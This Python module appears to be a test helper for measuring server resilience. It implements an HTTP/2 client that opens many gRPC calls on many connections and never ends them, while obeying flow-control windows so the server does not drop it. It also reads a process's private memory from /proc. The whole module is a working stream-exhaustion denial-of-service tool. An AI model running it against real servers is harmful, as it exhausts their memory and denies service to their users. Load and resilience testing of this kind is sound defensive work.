"""A client that means harm, frame by frame: calls that are begun on many connections and never ended.

It keeps to HTTP/2 and to the server's windows, as one that does not is hung up on at once.
"""

import selectors
import socket
import struct
import time
from collections import defaultdict
from collections.abc import Iterator, Sequence
from contextlib import ExitStack, contextmanager
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
INITIAL_WINDOW, MAX_STREAMS = 0x4, 0x3  # settings
FIRST_WINDOW, FRAME = 65535, 16384


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """A header that is in no table, uncompressed, shorter than 127 bytes."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def headers(method: str, token: str | None = None) -> bytes:
    """The headers of a call."""
    named = {":method": "POST", ":scheme": "http", ":path": method, ":authority": "localhost", "te": "trailers",
             "content-type": "application/grpc"}  # fmt: skip
    if token:
        named["authorization"] = f"Bearer {token}"
    return b"".join(_literal(name.encode(), value.encode()) for name, value in named.items())


class Attacker:
    """One connection with calls on it that it does not end."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.setblocking(False)
        self.out = bytearray(PREFACE + frame(SETTINGS, 0, 0))
        self._in = b""
        self._window = self._initial = FIRST_WINDOW
        self.most_streams = 1 << 30
        self._windows: dict[int, int] = defaultdict(int)
        self.unsent: dict[int, int] = {}  # bytes that a stream has still to send, but for the last one
        self._next = 1
        self.ended: dict[int, bytes] = {}  # streams that the server ended, with the headers or code that came last
        self.gone = False

    def begin(self, method: str, size: int = 0, token: str | None = None) -> int:
        """Begin a call whose message has so many bytes; none of it where that is 0."""
        stream, self._next = self._next, self._next + 2
        self.out += frame(HEADERS, END_HEADERS, stream, headers(method, token))
        self._windows[stream] += self._initial
        if size:
            self._put(stream, b"\0" + struct.pack(">I", size))
            self.unsent[stream] = size - 1
        return stream

    def _put(self, stream: int, payload: bytes) -> None:
        self._window -= len(payload)
        self._windows[stream] -= len(payload)
        self.out += frame(DATA, 0, stream, payload)

    def fill(self) -> None:
        """Send what the windows allow."""
        for stream in list(self.unsent):
            while len(self.out) < 1 << 20:
                n = min(self.unsent[stream], self._window, self._windows[stream], FRAME)
                if n <= 0:
                    break
                self._put(stream, bytes(n))
                self.unsent[stream] -= n

    def exchange(self, readable: bool, writable: bool) -> None:
        """Send and receive what can be at this moment."""
        try:
            if writable and self.out:
                del self.out[: self.socket.send(self.out)]
            if readable:
                received = self.socket.recv(1 << 18)
                self.gone = not received
                self._take(received)
        except BlockingIOError:
            pass
        except OSError:
            self.gone = True

    def _take(self, received: bytes) -> None:
        buffer, at = self._in + received, 0
        while len(buffer) - at >= 9 and len(buffer) - at - 9 >= int.from_bytes(buffer[at : at + 3], "big"):
            length = int.from_bytes(buffer[at : at + 3], "big")
            kind, flags, stream = struct.unpack_from(">BBI", buffer, at + 3)
            self._hear(kind, flags, stream, buffer[at + 9 : at + 9 + length])
            at += 9 + length
        self._in = buffer[at:]

    def _hear(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            for n in range(0, len(payload), 6):
                name, value = struct.unpack_from(">HI", payload, n)
                if name == INITIAL_WINDOW:
                    for known in self._windows:
                        self._windows[known] += value - self._initial
                    self._initial = value
                elif name == MAX_STREAMS:
                    self.most_streams = value
            self.out += frame(SETTINGS, ACK, 0)
        elif kind == PING and not flags & ACK:
            self.out += frame(PING, ACK, 0, payload)
        elif kind == WINDOW:
            if stream:
                self._windows[stream] += int.from_bytes(payload, "big")
            else:
                self._window += int.from_bytes(payload, "big")
        elif kind == RESET or (kind in (HEADERS, DATA) and flags & END_STREAM):
            self.ended[stream] = payload
            self.unsent.pop(stream, None)
        elif kind == GOAWAY:
            self.gone = True

    @property
    def open(self) -> int:
        """How many of its calls the server has not ended."""
        return (self._next - 1) // 2 - len(self.ended)


def push(attackers: Sequence[Attacker], seconds: float, settled: bool = False) -> None:
    """Send what the server takes for so long, or (``settled``) until nothing moves for half a second."""
    deadline = time.monotonic() + seconds
    moved_at = time.monotonic()
    with selectors.DefaultSelector() as selector:
        for attacker in attackers:
            selector.register(attacker.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, attacker)
        while time.monotonic() < deadline:
            moving = False
            for key, events in selector.select(0.01):
                one: Attacker = key.data
                if one.gone:
                    selector.unregister(one.socket)
                    continue
                one.fill()
                before = len(one.out)
                readable = bool(events & selectors.EVENT_READ)
                one.exchange(readable, bool(events & selectors.EVENT_WRITE))
                moving |= readable or len(one.out) != before
            if moving:
                moved_at = time.monotonic()
            elif settled and time.monotonic() - moved_at > 0.5:
                return
            else:
                time.sleep(0.005)


@contextmanager
def attacking(
    address: str, n_connections: int, n_calls: int, method: str, size: int = 0, token: str | None = None
) -> Iterator[list[Attacker]]:
    """Connections, each with so many calls begun (nothing is sent before ``push``)."""
    with ExitStack() as stack:
        attackers = []
        for _ in range(n_connections):
            attacker = Attacker(address)
            stack.callback(attacker.socket.close)
            attackers.append(attacker)
        for attacker in attackers:
            for _ in range(n_calls):
                attacker.begin(method, size, token)
        yield attackers


def memory(pid: int) -> float:
    """MB that a process alone has, in memory or swapped out."""
    told = Path(f"/proc/{pid}/smaps_rollup").read_text().splitlines()
    kept = {line.split(":")[0]: int(line.split()[1]) for line in told[1:]}
    return (kept["Private_Clean"] + kept["Private_Dirty"] + kept["Swap"]) / 1024
